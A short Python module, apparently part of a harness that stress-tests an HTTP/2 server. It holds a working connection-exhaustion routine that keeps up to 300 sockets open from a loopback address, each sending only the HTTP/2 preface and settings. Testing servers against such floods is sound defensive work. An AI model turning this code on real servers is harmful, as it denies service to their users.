"""Connections from one address that say hello and nothing more, as many as it is let in with."""

from __future__ import annotations

import socket
import sys
import time
from contextlib import suppress

from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import PREFACE, drain, settings

_SOCKETS = 300
_NOFILE = 256
# It must be another address than the honest caller's: what a network may connect is limited.
_SOURCE = ("127.0.0.2", 0)
_CONNECT_S = 0.1
_AGAIN = 16


def _strike(target: Target, begin: Begin) -> Counts:
    open_ones: list[socket.socket] = []
    connections = 0
    until = begin()
    while time.monotonic() < until:
        for one in [one for one in open_ones if not drain(one)]:
            one.close()
            open_ones.remove(one)
        for _ in range(min(_AGAIN, _SOCKETS - len(open_ones))):
            with suppress(OSError):
                open_ones.append(socket.create_connection(target.place, _CONNECT_S, _SOURCE))
                open_ones[-1].sendall(PREFACE + settings())
                connections += 1
        time.sleep(0.02)
    for one in open_ones:
        one.close()
    return {"connections": connections, "left": len(open_ones)}


ATTACK = Attack("connecting again and again", _strike, nofile=_NOFILE, needs_proxy=True)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
